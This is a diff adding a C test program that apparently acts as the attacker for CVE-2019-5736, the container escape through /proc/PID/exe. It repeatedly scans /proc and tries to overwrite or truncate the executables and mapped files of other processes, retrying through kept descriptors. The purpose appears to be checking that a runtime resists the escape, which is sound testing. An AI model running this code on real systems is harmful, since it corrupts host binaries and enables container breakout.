@@ -1,0 +1,88 @@
+// The attacker of CVE-2019-5736: goes through /proc as fast as it can, and tries
+// to write to the executable and the mapped files of every other process, at once
+// and, by a descriptor that it kept, when that process has ended. It prints what it
+// wrote to, and at the end of its input how many executables it saw.
+//
+// A file of the container's own root may be writable; the test makes that read-only.
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#define KEPT 64
+
+static int kept[KEPT];
+static long seen, helpers;
+
+static void attack(const char* path) {
+  static char link[4096];
+  const ssize_t size = readlink(path, link, sizeof link - 1);
+  if (size > 0) {
+    link[size] = 0;
+    if (strstr(link, "memfd:tsrun") != NULL) helpers++;
+  }
+  const int fd = open(path, O_WRONLY | O_CLOEXEC);
+  if (fd < 0) return;
+  if (pwrite(fd, "#!/evil\n", 8, 0) == 8 || ftruncate(fd, 0) == 0) {
+    printf("wrote to %s (%s)\n", path, link);
+    fflush(stdout);
+  }
+  close(fd);
+}
+
+// What was kept of a process is tried again as long as it is kept.
+static void reopenKept(void) {
+  char path[64];
+  for (int i = 0; i < KEPT; i++) {
+    if (kept[i] < 0) continue;
+    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
+    attack(path);
+  }
+}
+
+static void attackProcess(const char* pid) {
+  char path[640];
+  snprintf(path, sizeof path, "/proc/%s/exe", pid);
+  const int fd = open(path, O_PATH | O_CLOEXEC);
+  if (fd >= 0) {
+    const long slot = seen++ % KEPT;
+    if (kept[slot] >= 0) close(kept[slot]);
+    kept[slot] = fd;
+    attack(path);
+  }
+  snprintf(path, sizeof path, "/proc/%s/map_files", pid);
+  DIR* maps = opendir(path);
+  if (maps == NULL) return;
+  for (struct dirent* entry; (entry = readdir(maps)) != NULL;) {
+    if (entry->d_name[0] == '.') continue;
+    snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, entry->d_name);
+    attack(path);
+  }
+  closedir(maps);
+}
+
+int main(void) {
+  for (int i = 0; i < KEPT; i++) kept[i] = -1;
+  char self[32];
+  snprintf(self, sizeof self, "%d", getpid());
+  if (write(1, "on\n", 3) != 3) return 1;
+  struct pollfd input = {.fd = 0, .events = POLLIN};
+  while (poll(&input, 1, 0) == 0) {
+    DIR* proc = opendir("/proc");
+    if (proc == NULL) return 1;
+    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
+      const char* name = entry->d_name;
+      if (name[0] < '0' || name[0] > '9' || strcmp(name, self) == 0) continue;
+      attackProcess(name);
+    }
+    closedir(proc);
+    reopenKept();
+  }
+  printf("seen %ld helpers %ld\n", seen, helpers);
+  return 0;
+}
